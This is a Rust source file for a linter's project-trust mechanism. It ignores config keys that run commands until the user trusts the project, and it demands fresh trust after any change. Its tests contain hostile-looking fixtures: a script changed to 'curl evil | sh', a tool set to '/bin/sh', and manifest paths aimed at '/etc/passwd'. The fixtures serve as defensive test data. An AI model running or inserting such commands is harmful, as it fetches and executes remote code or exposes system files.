//! Which projects may make signalint run their code, as `direnv allow` and `mise trust` decide it.
//!
//! A repository is written by whoever wrote it. Until the user trusts the project, nothing it
//! provides runs: the keys of `signalint.toml` that run a command (`[engines.<id>] tool` and
//! `args`, `[[mcp.servers]]`, `[plugins] path`) are dropped, and engines come from the managed
//! toolchain rather than the project's `node_modules`. `signalint trust` records the trust in the
//! user's config directory, outside every repository, keyed on the real path of the project root
//! and the config's own location (a `signalint.toml` that is a symlink is trusted only as itself,
//! never with its target's trust), with a hash of the config's content and of every project file
//! it makes run (a `tool` script, a file named in `args`, a plugin library): any change to one of
//! them needs trust again. `--trust` or `SIGNALINT_TRUST=1` trust for one run (CI).
//!
//! The store is changed under a lock and written to a temporary file renamed into place, so
//! concurrent `signalint trust` calls lose no entry; a store that does not parse is set aside
//! under another name (with a warning), never overwritten.

use std::collections::{BTreeMap, BTreeSet};
use std::io;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};

use serde::{Deserialize, Serialize};

use super::Config;
use crate::state::files;

/// The environment variable that trusts every project for one run.
pub const TRUST_ENV: &str = "SIGNALINT_TRUST";
/// The environment variable naming the directory of the trust store (default: the user's config
/// directory, `$XDG_CONFIG_HOME/signalint` or `~/.config/signalint`).
pub const CONFIG_DIR_ENV: &str = "SIGNALINT_CONFIG_DIR";
const STORE_FILE: &str = "trusted.json";
const LOCK_FILE: &str = "trusted.lock";
/// The trust store is a short list of paths and hashes; anything larger is not ours.
const MAX_STORE_BYTES: u64 = 16 << 20;
/// The store's key for a project trusted without a config file.
const NO_CONFIG: &str = "";

static TRUST_THIS_RUN: AtomicBool = AtomicBool::new(false);

/// Trusts every project for the rest of this process (`--trust`).
pub fn trust_this_run() {
    TRUST_THIS_RUN.store(true, Ordering::Relaxed);
}

/// Whether this run trusts every project (`--trust`, `SIGNALINT_TRUST=1`).
pub fn trusted_for_this_run() -> bool {
    TRUST_THIS_RUN.load(Ordering::Relaxed)
        || std::env::var_os(TRUST_ENV).is_some_and(|v| v == "1" || v == "true")
}

/// The command that trusts the project of `config` (its `--config` when it is not the default).
pub fn trust_command(config: Option<&Path>) -> String {
    match config {
        Some(path) if path.file_name() != Some(std::ffi::OsStr::new(super::CONFIG_FILE_NAME)) => {
            format!("signalint trust --config {}", path.display())
        }
        _ => "signalint trust".to_owned(),
    }
}

/// What a config asked for that was not applied because the project is not trusted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Untrusted {
    /// The config file.
    pub path: PathBuf,
    /// The keys dropped, as `[engines.oxlint] tool`, in file order of their tables.
    pub ignored: Vec<String>,
}

impl Untrusted {
    /// One sentence for a status line or a response: what was ignored and how to trust it.
    pub fn message(&self) -> String {
        format!(
            "{} is not trusted, so {} {} ignored; if you trust it, run `{}` (or pass --trust)",
            self.path.display(),
            self.ignored.join(", "),
            if self.ignored.len() == 1 { "is" } else { "are" },
            trust_command(Some(&self.path)),
        )
    }

    /// Whether a key of `[engines.<engine>]` was dropped.
    pub fn affects_engine(&self, engine: &str) -> bool {
        let table = format!("[engines.{engine}] ");
        self.ignored.iter().any(|key| key.starts_with(&table))
    }
}

/// The keys of `config` that run a command, as shown in [`Untrusted::ignored`].
pub fn command_keys(config: &Config) -> Vec<String> {
    let mut keys = Vec::new();
    if !config.plugins.path.is_empty() {
        keys.push("[plugins] path".to_owned());
    }
    for (id, engine) in &config.engines {
        if engine.tool.is_some() {
            keys.push(format!("[engines.{id}] tool"));
        }
        if !engine.args.is_empty() {
            keys.push(format!("[engines.{id}] args"));
        }
    }
    if !config.mcp.servers.is_empty() {
        keys.push("[[mcp.servers]]".to_owned());
    }
    keys
}

/// The project a trust decision is about: its root's real path and its config's own location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Subject {
    /// The real path of the project root.
    pub root: PathBuf,
    /// The config's location as the store names it: relative to the root when it lies in it,
    /// else absolute; its last component is never followed (a link is trusted as itself).
    /// Empty for a project without a config file.
    pub config: String,
}

impl Subject {
    /// The subject for `root` (made real) and `config` (not followed past its parent).
    pub fn new(root: &Path, config: Option<&Path>) -> Self {
        let root = root.canonicalize().unwrap_or_else(|_| root.to_owned());
        let config = config.map_or_else(
            || NO_CONFIG.to_owned(),
            |path| {
                let own = own_location(&root, path);
                own.strip_prefix(&root)
                    .map(Path::to_owned)
                    .unwrap_or(own)
                    .to_string_lossy()
                    .into_owned()
            },
        );
        Self { root, config }
    }

    fn root_key(&self) -> String {
        self.root.to_string_lossy().into_owned()
    }
}

/// `path` with its parent made real and its own name kept: where the file itself is, not where
/// a link there points.
fn own_location(root: &Path, path: &Path) -> PathBuf {
    let path = if path.is_relative() {
        std::env::current_dir()
            .map(|cwd| cwd.join(path))
            .unwrap_or_else(|_| root.join(path))
    } else {
        path.to_owned()
    };
    match (path.parent(), path.file_name()) {
        (Some(parent), Some(name)) => parent
            .canonicalize()
            .unwrap_or_else(|_| parent.to_owned())
            .join(name),
        _ => path,
    }
}

/// The project files `config` makes run, for a project rooted at `root` (real path): `tool`
/// scripts, files named in engine and server `args` (or after `=` in one), server commands, and
/// the libraries of plugin directories, each only when it resolves inside the root. Sorted.
pub fn run_files(config: &Config, root: &Path) -> Vec<PathBuf> {
    let mut found = BTreeSet::new();
    let mut consider = |candidate: &str| {
        if candidate.is_empty() {
            return;
        }
        let path = Path::new(candidate);
        let path = if path.is_relative() {
            root.join(path)
        } else {
            path.to_owned()
        };
        if let Ok(real) = path.canonicalize()
            && real.starts_with(root)
            && real.is_file()
        {
            found.insert(real);
        }
    };
    let mut consider_arg = |arg: &str| {
        consider(arg);
        if let Some((_, value)) = arg.split_once('=') {
            consider(value);
        }
    };
    for engine in config.engines.values() {
        if let Some(tool) = &engine.tool {
            consider_arg(&tool.to_string_lossy());
        }
        engine.args.iter().for_each(|arg| consider_arg(arg));
    }
    for server in &config.mcp.servers {
        consider_arg(&server.command);
        server.args.iter().for_each(|arg| consider_arg(arg));
    }
    for dir in &config.plugins.path {
        let Ok(real) = dir.canonicalize() else {
            continue;
        };
        if !real.starts_with(root) {
            continue;
        }
        let Ok(entries) = std::fs::read_dir(&real) else {
            continue;
        };
        for entry in entries.flatten() {
            let name = entry.file_name();
            if name
                .to_string_lossy()
                .ends_with(std::env::consts::DLL_SUFFIX)
                && let Ok(lib) = entry.path().canonicalize()
                && lib.is_file()
            {
                found.insert(lib);
            }
        }
    }
    found.into_iter().collect()
}

/// The hash trust is recorded with: the config's text and each file it makes run (by its path
/// under the root and its content; a file that cannot be read counts as such).
pub fn fingerprint(config_text: &[u8], run_files: &[PathBuf], root: &Path) -> String {
    let mut hasher = blake3::Hasher::new();
    hasher.update(b"signalint-trust-2\0");
    hasher.update(&(config_text.len() as u64).to_le_bytes());
    hasher.update(config_text);
    for file in run_files {
        let name = file.strip_prefix(root).unwrap_or(file);
        let name = name.to_string_lossy();
        hasher.update(&(name.len() as u64).to_le_bytes());
        hasher.update(name.as_bytes());
        let mut content = blake3::Hasher::new();
        match std::fs::File::open(file).and_then(|mut f| io::copy(&mut f, &mut content)) {
            Ok(_) => {
                hasher.update(b"\x01");
                hasher.update(content.finalize().as_bytes());
            }
            Err(_) => {
                hasher.update(b"\x00");
            }
        }
    }
    hasher.finalize().to_hex().to_string()
}

/// The trust of one loaded project.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ProjectTrust {
    /// Whether the user trusts the project as it is now (or this run trusts every project).
    pub trusted: bool,
    /// The command that trusts it.
    pub command: String,
}

impl ProjectTrust {
    /// A trusted project (`--trust`, or tests).
    pub fn trusted() -> Self {
        Self {
            trusted: true,
            command: trust_command(None),
        }
    }
}

/// Decides the trust of the project at `root` whose config is `config` (read from `text`), and
/// drops the config's command keys when it is not trusted, recording which.
pub(super) fn apply(config: &mut Config, text: Option<&[u8]>, root: &Path) -> ProjectTrust {
    let source = config.source.clone();
    let subject = Subject::new(root, source.as_deref());
    let trusted = trusted_for_this_run() || {
        let files = run_files(config, &subject.root);
        let hash = fingerprint(text.unwrap_or_default(), &files, &subject.root);
        TrustStore::user().is_some_and(|store| store.contains(&subject, &hash))
    };
    restrict(config, trusted, &subject.root);
    ProjectTrust {
        trusted,
        command: trust_command(source.as_deref()),
    }
}

/// The `[mcp] manifests` that lie outside the project root (absolute, through `..` or a link):
/// reading one would put a file from elsewhere on the machine into an answer.
fn outside_manifests(config: &Config, root: &Path) -> Vec<PathBuf> {
    config
        .mcp
        .manifests
        .iter()
        .filter(|manifest| {
            // `join` keeps an absolute path as it is: inside the root it is the project's own.
            let path = root.join(manifest);
            match path.canonicalize() {
                Ok(real) => !real.starts_with(root),
                // Not there (yet): judged by its words, `..` anywhere counting as leaving.
                Err(_) => {
                    !path.starts_with(root)
                        || manifest
                            .components()
                            .any(|c| c == std::path::Component::ParentDir)
                }
            }
        })
        .cloned()
        .collect()
}

/// Drops the command keys of an untrusted config, and the manifests it names outside the
/// project root, and records which.
fn restrict(config: &mut Config, trusted: bool, root: &Path) {
    let Some(path) = config.source.clone() else {
        return;
    };
    let mut ignored = command_keys(config);
    let outside = outside_manifests(config, root);
    if !outside.is_empty() {
        let names: Vec<String> = outside.iter().map(|p| p.display().to_string()).collect();
        ignored.push(format!(
            "[mcp] manifests outside the project root ({})",
            names.join(", ")
        ));
    }
    if ignored.is_empty() || trusted {
        return;
    }
    config.mcp.manifests.retain(|m| !outside.contains(m));
    config.plugins.path.clear();
    for engine in config.engines.values_mut() {
        engine.tool = None;
        engine.args.clear();
    }
    config.mcp.servers.clear();
    tracing::warn!(
        "{}",
        Untrusted {
            path: path.clone(),
            ignored: ignored.clone()
        }
        .message()
    );
    config.untrusted = Some(Untrusted { path, ignored });
}

/// The user's record of trusted projects: real root → config location → fingerprint.
#[derive(Debug, Clone)]
pub struct TrustStore {
    dir: PathBuf,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct StoreFile {
    /// Real project root → config location (`""` without one) → [`fingerprint`].
    #[serde(default)]
    projects: BTreeMap<String, BTreeMap<String, String>>,
}

/// What `signalint trust` recorded.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Recorded {
    /// The project root's real path.
    pub root: PathBuf,
    /// The config's location as stored (empty without one).
    pub config: String,
    /// The project files the config makes run, covered by the trust.
    pub run_files: Vec<PathBuf>,
}

impl TrustStore {
    /// The store in the user's config directory, if there is a home to put it in.
    pub fn user() -> Option<Self> {
        let dir = std::env::var_os(CONFIG_DIR_ENV)
            .map(PathBuf::from)
            .or_else(|| {
                std::env::var_os("XDG_CONFIG_HOME")
                    .map(PathBuf::from)
                    .filter(|p| p.is_absolute())
                    .map(|p| p.join("signalint"))
            })
            .or_else(|| {
                std::env::var_os("HOME").map(|home| PathBuf::from(home).join(".config/signalint"))
            })?;
        Some(Self { dir })
    }

    /// A store in `dir` (tests, or a team's own location).
    pub fn at(dir: impl Into<PathBuf>) -> Self {
        Self { dir: dir.into() }
    }

    /// The file the store lives in.
    pub fn file(&self) -> PathBuf {
        self.dir.join(STORE_FILE)
    }

    /// Whether `subject` is trusted with exactly this fingerprint.
    pub fn contains(&self, subject: &Subject, hash: &str) -> bool {
        let store = match self.read() {
            Ok(store) => store,
            Err(e) => {
                tracing::warn!("{e}; no project counts as trusted");
                return false;
            }
        };
        store
            .projects
            .get(&subject.root_key())
            .and_then(|configs| configs.get(&subject.config))
            .is_some_and(|stored| stored == hash)
    }

    /// Trusts the project at `root` (real path) with its config as loaded untrusted
    /// (`config.source` and its text) and the files it makes run, as they are now.
    pub fn trust(&self, root: &Path, config: &Config, text: Option<&[u8]>) -> io::Result<Recorded> {
        let subject = Subject::new(root, config.source.as_deref());
        let run_files = run_files(config, &subject.root);
        let hash = fingerprint(text.unwrap_or_default(), &run_files, &subject.root);
        self.update(|store| {
            store
                .projects
                .entry(subject.root_key())
                .or_default()
                .insert(subject.config.clone(), hash);
            true
        })?;
        Ok(Recorded {
            root: subject.root,
            config: subject.config,
            run_files,
        })
    }

    /// Forgets the project at `root` with `config`; `Ok(false)` when it was not trusted.
    pub fn revoke(&self, root: &Path, config: Option<&Path>) -> io::Result<bool> {
        let subject = Subject::new(root, config);
        let mut removed = false;
        self.update(|store| {
            if let Some(configs) = store.projects.get_mut(&subject.root_key()) {
                removed = configs.remove(&subject.config).is_some();
                if configs.is_empty() {
                    store.projects.remove(&subject.root_key());
                }
            }
            removed
        })?;
        Ok(removed)
    }

    /// Reads, changes and writes the store under its lock; `change` says whether to write. A
    /// store that does not parse is set aside first.
    fn update(&self, change: impl FnOnce(&mut StoreFile) -> bool) -> io::Result<()> {
        files::ensure_private_dir(&self.dir)?;
        let _lock = files::DirLock::acquire(&self.dir, LOCK_FILE)?;
        let mut store = match self.read() {
            Ok(store) => store,
            Err(e) => {
                let aside = self.set_aside()?;
                tracing::warn!(
                    "{e}; it was set aside as {} and a new store started",
                    aside.display()
                );
                StoreFile::default()
            }
        };
        if change(&mut store) {
            files::write_atomic(&self.dir, STORE_FILE, &serde_json::to_vec_pretty(&store)?)?;
        }
        Ok(())
    }

    /// Renames a damaged store to a name no later write uses.
    fn set_aside(&self) -> io::Result<PathBuf> {
        let stamp = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos())
            .unwrap_or_default();
        let aside = self.dir.join(format!("{STORE_FILE}.damaged-{stamp}"));
        std::fs::rename(self.file(), &aside)?;
        Ok(aside)
    }

    fn read(&self) -> Result<StoreFile, String> {
        match files::read_regular(&self.file(), MAX_STORE_BYTES) {
            Ok(Some(bytes)) => serde_json::from_slice(&bytes).map_err(|e| {
                format!(
                    "the trust store {} does not parse ({e})",
                    self.file().display()
                )
            }),
            Ok(None) => Ok(StoreFile::default()),
            Err(e) => Err(format!("the trust store {}: {e}", self.file().display())),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const RISKY: &str = "[engines.oxlint]\ntool = \"/bin/sh\"\nargs = [\"--fix\"]\n\n[[mcp.servers]]\nname = \"x\"\ncommand = \"sh\"\n";

    /// A project at a real temporary root with `text` as its `signalint.toml`.
    fn project(text: &str) -> (tempfile::TempDir, PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        std::fs::write(root.join("signalint.toml"), text).unwrap();
        (dir, root)
    }

    fn load(root: &Path, store: &TrustStore) -> (Config, bool) {
        let path = root.join("signalint.toml");
        let text = std::fs::read(&path).unwrap();
        let mut config = Config::parse(std::str::from_utf8(&text).unwrap(), &path).unwrap();
        let subject = Subject::new(root, Some(&path));
        let hash = fingerprint(&text, &run_files(&config, &subject.root), &subject.root);
        let trusted = store.contains(&subject, &hash);
        restrict(&mut config, trusted, root);
        (config, trusted)
    }

    fn trust(root: &Path, store: &TrustStore) -> Recorded {
        let path = root.join("signalint.toml");
        let text = std::fs::read(&path).unwrap();
        let config = Config::parse(std::str::from_utf8(&text).unwrap(), &path).unwrap();
        store.trust(root, &config, Some(&text)).unwrap()
    }

    #[test]
    fn untrusted_command_keys_are_dropped_and_named() {
        let (dir, root) = project(RISKY);
        let (config, trusted) = load(&root, &TrustStore::at(dir.path().join("store")));
        assert!(!trusted);
        let untrusted = config.untrusted.as_ref().expect("recorded");
        assert_eq!(
            untrusted.ignored,
            [
                "[engines.oxlint] tool",
                "[engines.oxlint] args",
                "[[mcp.servers]]"
            ]
        );
        assert!(untrusted.affects_engine("oxlint"));
        assert!(!untrusted.affects_engine("tsc"));
        assert!(
            untrusted.message().contains("`signalint trust`"),
            "{}",
            untrusted.message()
        );
        assert_eq!(config.engines["oxlint"].tool, None);
        assert!(config.engines["oxlint"].args.is_empty());
        assert!(config.mcp.servers.is_empty());
    }

    #[test]
    fn trust_holds_for_exactly_the_content_it_saw() {
        let (dir, root) = project(RISKY);
        let store = TrustStore::at(dir.path().join("store"));
        trust(&root, &store);
        let (config, trusted) = load(&root, &store);
        assert!(trusted);
        assert_eq!(config.untrusted, None);
        assert!(config.engines["oxlint"].tool.is_some());

        std::fs::write(
            root.join("signalint.toml"),
            format!("{RISKY}# one more line\n"),
        )
        .unwrap();
        let (config, trusted) = load(&root, &store);
        assert!(
            !trusted && config.untrusted.is_some(),
            "a change needs trust again"
        );

        let path = root.join("signalint.toml");
        assert!(store.revoke(&root, Some(&path)).unwrap());
        assert!(!store.revoke(&root, Some(&path)).unwrap());
    }

    #[test]
    fn a_changed_tool_script_needs_trust_again() {
        let (dir, root) = project(
            "[engines.oxlint]\ntool = \"scripts/lint.sh\"\nargs = [\"--config=lint/rules.js\"]\n",
        );
        std::fs::create_dir_all(root.join("scripts")).unwrap();
        std::fs::create_dir_all(root.join("lint")).unwrap();
        std::fs::write(root.join("scripts/lint.sh"), "#!/bin/sh\necho ok\n").unwrap();
        std::fs::write(root.join("lint/rules.js"), "module.exports = {}\n").unwrap();
        let store = TrustStore::at(dir.path().join("store"));
        let recorded = trust(&root, &store);
        assert_eq!(
            recorded.run_files,
            [root.join("lint/rules.js"), root.join("scripts/lint.sh")]
        );
        assert!(load(&root, &store).1);

        std::fs::write(root.join("scripts/lint.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        assert!(
            !load(&root, &store).1,
            "the script changed after it was trusted"
        );
        trust(&root, &store);
        assert!(load(&root, &store).1);
        std::fs::write(root.join("lint/rules.js"), "require('child_process')\n").unwrap();
        assert!(!load(&root, &store).1, "a file named in args changed");
    }

    #[test]
    fn a_linked_config_is_trusted_only_as_itself() {
        let (dir, good) = project("[engines.oxlint]\ntool = \"scripts/lint.sh\"\n");
        let store = TrustStore::at(dir.path().join("store"));
        std::fs::create_dir_all(good.join("scripts")).unwrap();
        std::fs::write(good.join("scripts/lint.sh"), "#!/bin/sh\n").unwrap();
        trust(&good, &store);
        assert!(load(&good, &store).1);

        // A sibling repository links to the trusted config, relatively and absolutely, and
        // ships the same script.
        for target in [
            PathBuf::from("../good/signalint.toml"),
            good.join("signalint.toml"),
        ] {
            let parent = tempfile::tempdir_in(good.parent().unwrap()).unwrap();
            let hostile = parent.path().join("hostile");
            std::fs::create_dir_all(hostile.join("scripts")).unwrap();
            std::fs::write(hostile.join("scripts/lint.sh"), "#!/bin/sh\n").unwrap();
            let good_sibling = parent.path().join("good");
            std::os::unix::fs::symlink(&good, &good_sibling).unwrap();
            std::os::unix::fs::symlink(&target, hostile.join("signalint.toml")).unwrap();
            let hostile = hostile.canonicalize().unwrap();
            let (config, trusted) = load(&hostile, &store);
            assert!(
                !trusted,
                "the link borrowed its target's trust ({})",
                target.display()
            );
            assert_eq!(config.engines["oxlint"].tool, None);
        }
    }

    #[test]
    fn manifests_outside_the_root_need_trust() {
        let (dir, root) = project(
            "[mcp]\nmanifests = [\"/etc/passwd\", \"../x.json\", \"tools.json\", \"out.json\"]\n",
        );
        std::os::unix::fs::symlink("/etc/hostname", root.join("out.json")).unwrap();
        let store = TrustStore::at(dir.path().join("store"));
        let (config, trusted) = load(&root, &store);
        assert!(!trusted);
        assert_eq!(config.mcp.manifests, [PathBuf::from("tools.json")]);
        let untrusted = config.untrusted.expect("recorded");
        assert_eq!(
            untrusted.ignored,
            ["[mcp] manifests outside the project root (/etc/passwd, ../x.json, out.json)"]
        );
        trust(&root, &store);
        let (config, trusted) = load(&root, &store);
        assert!(trusted);
        assert_eq!(config.mcp.manifests.len(), 4);
    }

    #[test]
    fn an_absolute_manifest_inside_the_root_needs_no_trust() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("p");
        std::fs::create_dir(&root).unwrap();
        let root = root.canonicalize().unwrap();
        let inside = root.join("tools.json");
        std::fs::write(&inside, "{}").unwrap();
        let text = format!("[mcp]\nmanifests = [{:?}]\n", inside.display().to_string());
        std::fs::write(root.join("signalint.toml"), &text).unwrap();
        let store = TrustStore::at(dir.path().join("store"));
        let (config, trusted) = load(&root, &store);
        assert!(!trusted);
        assert_eq!(config.mcp.manifests, [inside]);
        assert_eq!(config.untrusted, None);
    }

    #[test]
    fn a_project_without_a_config_is_trusted_by_its_root() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let store = TrustStore::at(dir.path().join("store"));
        let subject = Subject::new(&root, None);
        let empty = fingerprint(b"", &[], &root);
        assert!(!store.contains(&subject, &empty));
        store.trust(&root, &Config::default(), None).unwrap();
        assert!(store.contains(&subject, &empty));
        assert!(!store.contains(
            &Subject::new(dir.path().join("store").as_path(), None),
            &empty
        ));
    }

    #[test]
    fn concurrent_trusts_keep_every_entry() {
        let dir = tempfile::tempdir().unwrap();
        let store = TrustStore::at(dir.path().join("store"));
        let roots: Vec<PathBuf> = (0..20)
            .map(|i| {
                let root = dir.path().join(format!("p{i}"));
                std::fs::create_dir(&root).unwrap();
                root.canonicalize().unwrap()
            })
            .collect();
        std::thread::scope(|scope| {
            for root in &roots {
                let store = store.clone();
                scope.spawn(move || store.trust(root, &Config::default(), None).unwrap());
            }
        });
        let empty = |root: &Path| fingerprint(b"", &[], root);
        for root in &roots {
            assert!(
                store.contains(&Subject::new(root, None), &empty(root)),
                "{}",
                root.display()
            );
        }
    }

    #[test]
    fn a_damaged_store_is_set_aside_not_overwritten() {
        let dir = tempfile::tempdir().unwrap();
        let store_dir = dir.path().join("store");
        let store = TrustStore::at(&store_dir);
        store.trust(dir.path(), &Config::default(), None).unwrap();
        let text = std::fs::read(store.file()).unwrap();
        let cut = &text[..text.len() / 2];
        std::fs::write(store.file(), cut).unwrap();
        let other = dir.path().join("other");
        std::fs::create_dir(&other).unwrap();
        store.trust(&other, &Config::default(), None).unwrap();
        let aside: Vec<PathBuf> = std::fs::read_dir(&store_dir)
            .unwrap()
            .flatten()
            .map(|e| e.path())
            .filter(|p| p.to_string_lossy().contains(".damaged-"))
            .collect();
        assert_eq!(aside.len(), 1, "{aside:?}");
        assert_eq!(std::fs::read(&aside[0]).unwrap(), cut);
    }
}
